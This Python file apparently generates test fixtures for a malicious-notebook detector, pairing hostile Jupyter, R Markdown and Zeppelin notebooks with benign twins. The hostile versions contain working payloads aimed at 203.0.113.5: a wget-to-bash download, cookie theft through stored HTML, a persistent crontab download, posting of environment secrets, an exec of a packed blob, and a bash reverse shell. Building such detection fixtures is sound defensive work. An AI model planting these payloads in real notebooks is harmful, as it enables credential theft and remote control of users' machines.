"""Notebooks: code cells, magics and stored output that act when the notebook is opened or run."""
import base64
import json
import zlib


def cell(source, **more):
    return {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": [], "source": source.splitlines(True), **more}


def notebook(*cells, language="python"):
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"} if language == "python" else {"display_name": "R", "language": "R", "name": "ir"}
    head = {"cell_type": "markdown", "metadata": {}, "source": ["# Fine-tuning a small classifier\n"]}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": kernel, "language_info": {"name": language}}, "cells": [head, *cells]}, indent=1)


def shown(mime, text):
    return cell("model.summary()", outputs=[{"output_type": "display_data", "metadata": {}, "data": {mime: text.splitlines(True), "text/plain": ["<model>"]}}])


def add(out):
    hidden = {"jupyter": {"source_hidden": True, "outputs_hidden": True}}
    out.add(
        "notebooks", "hidden-shell-cell", notebook(cell("!wget -qO- http://203.0.113.5/r | bash > /dev/null 2>&1 &", metadata=hidden), cell("import torch\n")),
        notebook(cell("!pip install -q torch==2.9.0 > /dev/null 2>&1", metadata=hidden), cell("import torch\n")), file="finetune.ipynb",
        why="a hidden cell pipes a script of a bare address into a shell; the twin's installs a pinned release",
    )
    out.add(
        "notebooks", "output-drives-kernel",
        notebook(shown("application/javascript", "var k = (window.IPython || {}).notebook.kernel;\nk.execute(\"__import__('os').system('touch marker')\");")),
        notebook(shown("application/javascript", "var e = document.createElement('b');\ne.textContent = 'params: ' + 1024;\nelement.append(e);")), file="summary.ipynb",
        why="a stored output is a script that makes the kernel run a command as soon as a trusted notebook is opened; no browser is here to run it",
    )
    out.add(
        "notebooks", "output-token-theft",
        notebook(shown("text/html", "<div>accuracy 0.93</div><img src=x onerror=\"fetch('http://203.0.113.5/c?d='+encodeURIComponent(document.cookie))\">")),
        notebook(shown("text/html", "<div>accuracy 0.93</div><img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" alt=\"curve\">")), file="report.ipynb",
        why="a stored HTML output sends the cookie of the notebook server, its log-in, to a bare address",
    )
    bash = "%%script bash --bg\n{}\n"
    out.add(
        "notebooks", "background-script",
        notebook(cell(bash.format("(crontab -l; echo '*/5 * * * * curl -s http://203.0.113.5/b | sh') | crontab -")), cell("import numpy\n")),
        notebook(cell(bash.format("(date; nvidia-smi) >> train.log")), cell("import numpy\n")), file="train.ipynb",
        why="a script magic puts a line into the user's crontab that fetches and runs a script each five minutes",
    )
    send = "import os, urllib.request\n\nkeys = {k: v for k, v in os.environ.items() if 'TOKEN' in k or 'KEY' in k}\nurllib.request.urlopen('http://203.0.113.5/k', data=repr(keys).encode())\n"
    calm = "import os, urllib.request\n\nkeys = {k: v for k, v in os.environ.items() if 'CUDA' in k or 'OMP' in k}\nprint(sorted(keys), urllib.request.__name__)\n"
    out.add(
        "notebooks", "environment-post", notebook(cell(send)), notebook(cell(calm)), file="setup.ipynb",
        why="a cell posts all tokens and keys of the environment to a bare address; not run, it uses the network",
    )
    packed = "import base64, zlib\nimport types\n\nblob = '{}'\nm = types.ModuleType('helpers')\n{}\n"

    blob = base64.b64encode(zlib.compress(b"open('marker','w').close()")).decode()
    words = base64.b64encode(zlib.compress(b"the of and to in is that for")).decode()
    out.add(
        "notebooks", "packed-module", notebook(cell(packed.format(blob, "exec(zlib.decompress(base64.b64decode(blob)), m.__dict__)"))),
        notebook(cell(packed.format(words, "m.words = set(zlib.decompress(base64.b64decode(blob)).split())"))), prove="twelfth-notebook", file="helpers.ipynb",
        why="a cell inflates a blob and executes it within a module made for it; the twin inflates a list of words",
    )
    rmd = "---\ntitle: Model report\noutput: html_document\n---\n\n```{r setup, include=FALSE}\n%s\n```\n\n```{r}\nsummary(readRDS('fit.rds'))\n```\n"
    out.add(
        "notebooks", "r-markdown-setup", rmd % 'eval(parse(text = readLines(url("http://203.0.113.5/x.R"))))', rmd % "knitr::opts_chunk$set(echo = FALSE, fig.width = 6)", file="report.Rmd",
        why="the hidden set-up chunk of a report evaluates R code of a bare address when it is knitted; R is not installed",
    )
    note = lambda text: json.dumps({"name": "features", "id": "2JX", "paragraphs": [{"text": "%md\n# Features", "id": "p1"}, {"text": text, "id": "p2", "config": {"editorHide": True, "enabled": True, "runOnSelectionChange": True}}],
                                    "config": {"isZeppelinNotebookCronEnable": True, "cron": "0 0/30 * * * ?"}})
    out.add(
        "notebooks", "zeppelin-shell", note("%sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1"), note("%sh\nhdfs dfs -ls /data/features | tail -3"), file="features_2JX.zpln",
        why="a hidden shell paragraph, run each half hour, opens a reverse shell; the twin lists a folder",
    )
